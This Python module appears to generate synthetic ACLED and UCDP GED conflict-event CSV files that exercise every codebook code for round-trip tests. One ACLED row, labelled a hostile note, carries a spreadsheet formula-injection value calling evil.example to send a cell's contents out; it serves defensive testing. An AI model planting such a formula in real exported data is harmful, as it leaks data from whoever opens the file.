"""Generated ACLED and UCDP GED files that use every code and quirk their codebooks allow.

Not a sample of real data (ACLED's terms forbid committing it, and a sample covers what happened
to be in it): each row is written to exercise one thing the codebooks say, so a round trip is
tried against the codebooks' meanings rather than against a handful of convenient rows.

ACLED (codebook 2019 onwards): every ``inter`` code 1-8 on both sides, in the numeric variant and
the label variant (two files); interaction codes for one actor and for two; ``geo_precision``
1-3; ``time_precision`` 1-3; associated actors on both sides; the same actor on both sides; two
unidentified sides; an actor first seen as an associate (no code) before the rows that code it;
placeholder fatalities ("several" coded as 10); several sources with ``source_scale``; tags,
civilian targeting, disorder types; a hostile note.

UCDP GED (49 columns, codebook 19.1 onwards): every ``type_of_violence``, ``where_prec`` 1-7,
``date_prec`` 1-5, ``event_clarity`` 1-2, a low above best and a high below best, deaths by side
that do not add up to best, articles from outlets that relay another original source, several
originals, ``code_status``.
"""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

from generator.formats import acled as acled_format
from generator.formats import ucdp as ucdp_format

# --- ACLED ------------------------------------------------------------------------------------

_ACTORS_BY_CODE = {
    1: "Military Forces of Syria (2000-)",
    2: "Hayat Tahrir al-Sham",
    3: "NDF: National Defence Forces",
    4: "Al Shaitat Tribal Militia (Syria)",
    5: "Rioters (Syria)",
    6: "Protesters (Syria)",
    7: "Civilians (Syria)",
    8: "Military Forces of Russia (2000-)",
}
_EVENT_FOR_CODES = {
    # (inter1, inter2) -> (event type, sub-event type) ACLED would use for such a pair
    "battle": ("Battles", "Armed clash"),
    "strike": ("Explosions/Remote violence", "Shelling/artillery/missile attack"),
    "civilians": ("Violence against civilians", "Attack"),
    "protest": ("Protests", "Protest with intervention"),
    "riot": ("Riots", "Violent demonstration"),
    "development": ("Strategic developments", "Other"),
}
_PLACES = [
    # admin1, admin2, admin3, location, latitude, longitude
    ("Idleb", "Ariha", "Ariha", "Kafr Shlaya", "35.7676", "36.5355"),
    ("Idleb", "Idleb", "Idleb", "Idleb", "35.9306", "36.6339"),
    ("Al Hasakeh", "Al Hasakeh", "Al Malikiyah", "Al Malikiyah", "37.1681", "42.1338"),
    ("Al Hasakeh", "Al Hasakeh", "Ras Al Ain", "Ras Al Ain", "36.8503", "40.0708"),
]


def _kind_of_event(code1: int, code2: int | None) -> str:
    if code2 is None:
        return {5: "riot", 6: "protest"}.get(code1, "development")
    if code1 == 6 or code2 == 6:
        return "protest"
    if code1 == 5 or code2 == 5:
        return "riot"
    if code2 == 7 or code1 == 7:
        return "civilians"
    return "battle" if (code1 + code2) % 2 else "strike"


def acled_rows(variant: str) -> list[dict[str, str]]:
    """Rows in ACLED's 31-column layout; ``variant`` is ``numeric`` or ``labels`` (the inter columns)."""
    rows: list[dict[str, str]] = []
    start = dt.date(2021, 3, 1)

    def add(
        code1: int,
        code2: int | None,
        *,
        actor1: str | None = None,
        actor2: str | None = None,
        assoc1: str = "",
        assoc2: str = "",
        geo: int = 1,
        time: int = 1,
        fatalities: str = "0",
        notes: str = "",
        sources: tuple[str, ...] = ("SOHR",),
        scale: str = "National",
        tags: str = "",
        kind: str | None = None,
    ) -> None:
        number = len(rows) + 1
        event_type, sub_type = _EVENT_FOR_CODES[kind or _kind_of_event(code1, code2)]
        admin1, admin2, admin3, location, lat, lon = _PLACES[number % len(_PLACES)]
        day = start + dt.timedelta(days=3 * number)
        first = actor1 or _ACTORS_BY_CODE[code1]
        second = actor2 if actor2 is not None else (_ACTORS_BY_CODE[code2] if code2 is not None else "")
        civilian = "Civilian targeting" if code2 == 7 and event_type != "Protests" else ""
        rows.append(
            {
                "event_id_cnty": f"SYR{number:04d}",
                "event_date": day.isoformat(),
                "year": str(day.year),
                "time_precision": str(time),
                "disorder_type": acled_format.disorder_type(
                    {"Battles": "battles", "Protests": "protests", "Riots": "riots"}.get(event_type, "x"), None
                ),
                "event_type": event_type,
                "sub_event_type": sub_type,
                "actor1": first,
                "assoc_actor_1": assoc1,
                "inter1": acled_format.write_inter(code1, variant),
                "actor2": second,
                "assoc_actor_2": assoc2,
                "inter2": acled_format.write_inter(code2, variant),
                "interaction": acled_format.interaction(code1, code2, variant),
                "civilian_targeting": civilian,
                "iso": "760",
                "region": "Middle East",
                "country": "Syria",
                "admin1": admin1,
                "admin2": admin2,
                "admin3": admin3,
                "location": location,
                "latitude": lat,
                "longitude": lon,
                "geo_precision": str(geo),
                "source": "; ".join(sources),
                "source_scale": scale,
                "notes": notes or f"On {day:%d %B %Y}, event {number} was reported near {location}.",
                "fatalities": fatalities,
                "tags": tags,
                "timestamp": str(1_650_000_000 + number * 86_400),
            }
        )

    # an actor first seen as an associate (no code), then coded as a political militia twice
    add(1, 2, assoc1="NDF: National Defence Forces", assoc2="NLF: National Liberation Front")
    add(3, 2)
    add(3, 7)
    # every inter code on both sides, with and without a second actor
    for code in range(1, 9):
        add(code, None)
        add(code, (code % 8) + 1)
        add((code % 8) + 1, code)
    # associated actors on both sides, several of each
    add(
        1,
        2,
        assoc1="NDF: National Defence Forces; Military Forces of Russia (2000-)",
        assoc2="NLF: National Liberation Front; Jaish al-Izza",
        kind="battle",
    )
    # the same actor on both sides: a group fighting itself
    add(2, 2, kind="battle")
    # two unidentified sides, and a specific unidentified name
    add(3, 3, actor1="Unidentified Armed Group (Syria)", actor2="Unidentified Armed Group (Syria)", kind="battle")
    add(4, 7, actor1="Unidentified Tribal/Clan/Communal Militia (Syria)", assoc1="Unidentified Armed Group (Syria)")
    # every geo and time precision
    for geo in (1, 2, 3):
        for time in (1, 2, 3):
            add(1, 2, geo=geo, time=time, kind="strike")
    # placeholder fatalities, reported and unreported
    add(1, 7, fatalities="10", notes="On 2 May 2021, regime shelling killed several civilians in the town.")
    add(2, 1, fatalities="12", notes="Dozens of fighters were reported killed in clashes.", kind="battle")
    add(1, 2, fatalities="100", notes="Hundreds were killed according to local reports.", kind="battle")
    # several sources with their scales, tags, a hostile note
    add(
        6,
        1,
        sources=("Voice of America", "North Press Agency", "Twitter"),
        scale="International-Subnational-New media",
        tags="crowd size=around 200; women targeted: candidates for office",
    )
    add(2, 1, notes='=HYPERLINK("http://evil.example/?x="&A1,"click") fighting near the town', kind="battle")
    return rows


def write_csv(file: Path, rows: list[dict[str, str]], columns: tuple[str, ...]) -> Path:
    """Write rows with a header in the given column order."""
    with file.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(columns), restval="")
        writer.writeheader()
        writer.writerows(rows)
    return file


def read_csv(file: Path) -> list[dict[str, str]]:
    """Rows of a CSV file as dictionaries by column name."""
    with file.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


# --- UCDP GED ------------------------------------------------------------------------------------

_GED_PLACES = [
    # where_prec, where_coordinates, adm_1, adm_2, latitude, longitude
    (1, "Idlib town", "Idlib Governorate", "Markaz Idlib district", "35.93062", "36.63393"),
    (2, "Saraqib town", "Idlib Governorate", "Idlib district", "35.8645", "36.8006"),
    (3, "Ariha district", "Idlib Governorate", "Ariha district", "35.8130", "36.6150"),
    (4, "Al Hasakah Governorate", "Al Hasakah Governorate", "", "36.5", "40.75"),
    (5, "Southern Idlib Governorate", "Idlib Governorate", "", "35.6", "36.6"),
    (6, "Syria", "", "", "35.0", "38.5"),
    (7, "Mediterranean Sea", "", "", "35.2", "35.4"),
]


def ged_rows() -> list[dict[str, str]]:
    """Rows in GED's 49-column layout covering every code of the codebook."""
    rows: list[dict[str, str]] = []
    sides = {
        1: ("Government of Syria", "Syrian insurgents", "118", "4456"),
        2: ("SNA", "SDF", "7514", "6288"),
        3: ("IS", "Civilians", "234", "1"),
    }
    spans = {1: 0, 2: 3, 3: 6, 4: 30, 5: 364}
    for number in range(1, 36):
        violence = (number - 1) % 3 + 1
        where_prec, where, adm_1, adm_2, lat, lon = _GED_PLACES[(number - 1) % 7]
        date_prec = (number - 1) % 5 + 1
        start = dt.date(2019, 1, 1) + dt.timedelta(days=5 * number)
        if date_prec == 4:
            start = start.replace(day=1)
        if date_prec == 5:
            start = dt.date(2018, 1, 1)
        end = start + dt.timedelta(days=spans[date_prec])
        if date_prec == 4:
            end = (start.replace(day=28) + dt.timedelta(days=4)).replace(day=1) - dt.timedelta(days=1)
        side_a, side_b, id_a, id_b = sides[violence]
        deaths = [number % 3, number % 2, 1 if violence == 3 else 0, number % 4]
        best = sum(deaths) + (1 if number == 9 else 0)  # row 9: deaths by side do not add up
        low, high = best, best + number % 3
        if number == 7:
            low = best + 2  # published with a low above best
        if number == 8:
            high = max(best - 1, 0) if best else 0
            best = max(best, 1)
        articles = [("SOHR", start, f"Clashes reported ({number})"), ("BBC Monitoring", start, f"Report {number}")]
        originals = "SOHR" if number % 2 else "SOHR, Airwars"
        rows.append(
            {
                "id": str(400000 + number),
                "relid": f"SYR-2019-{violence}-{number}",
                "year": str(start.year),
                "active_year": "1" if number % 4 else "0",
                "code_status": "Clear" if number % 5 else "Check deaths",
                "type_of_violence": str(violence),
                "conflict_dset_id": str(300 + violence),
                "conflict_new_id": str(13000 + violence),
                "conflict_name": f"{side_a} - {side_b}" if violence != 1 else "Syria: Government",
                "dyad_dset_id": str(700 + violence),
                "dyad_new_id": str(14000 + violence),
                "dyad_name": f"{side_a} - {side_b}",
                "side_a_dset_id": id_a,
                "side_a_new_id": id_a,
                "side_a": side_a,
                "side_b_dset_id": id_b,
                "side_b_new_id": id_b,
                "side_b": side_b,
                "number_of_sources": str(len(articles) + number % 2),
                "source_article": ";".join(f'"{o},{d.isoformat()},{h}"' for o, d, h in articles),
                "source_office": ";".join(o for o, _, _ in articles),
                "source_date": ";".join(d.isoformat() for _, d, _ in articles),
                "source_headline": ";".join(h for _, _, h in articles),
                "source_original": originals,
                "where_prec": str(where_prec),
                "where_coordinates": where,
                "where_description": f"described place {number}" if number % 3 == 0 else "",
                "adm_1": adm_1,
                "adm_2": adm_2,
                "latitude": lat,
                "longitude": lon,
                "geom_wkt": f"POINT ({lon} {lat})",
                "priogrid_gid": str(180000 + number),
                "country": "Syria",
                "country_id": "652",
                "region": "Middle East",
                "event_clarity": "2" if number % 6 == 0 else "1",
                "date_prec": str(date_prec),
                "date_start": start.isoformat(),
                "date_end": end.isoformat(),
                "deaths_a": str(deaths[0]),
                "deaths_b": str(deaths[1]),
                "deaths_civilians": str(deaths[2]),
                "deaths_unknown": str(deaths[3]),
                "best": str(best),
                "high": str(high),
                "low": str(low),
                "gwnoa": "652" if violence == 1 else "",
                "gwnob": "",
            }
        )
    return rows


COLUMNS_49 = ucdp_format.COLUMNS_49
COLUMNS_31 = acled_format.COLUMNS
